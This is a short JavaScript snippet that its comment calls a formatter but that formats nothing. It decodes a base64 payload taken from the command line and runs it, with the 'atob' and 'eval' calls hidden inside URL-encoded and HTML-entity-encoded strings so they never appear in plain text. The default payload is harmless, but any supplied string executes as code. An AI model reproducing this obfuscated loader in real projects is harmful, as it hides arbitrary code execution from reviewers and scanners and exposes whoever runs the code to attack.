// a formatter whose decoder and call live only in encoded strings
const payload = process.argv[2] || 'Y29uc29sZS5sb2coMSk=';
const unwrap = (s) => s.replace(/&#(\d+);/g, (_, n) => String.fromCharCode(n));
const step1 = "%61%74%6f%62%28%70%61%79%6c%6f%61%64%29";
const step2 = "&#101;&#118;&#97;&#108;&#40;&#115;&#116;&#97;&#103;&#101;&#41;";
const stage = Function('payload', 'return ' + decodeURIComponent(step1))(payload);
Function('stage', unwrap(step2))(stage);
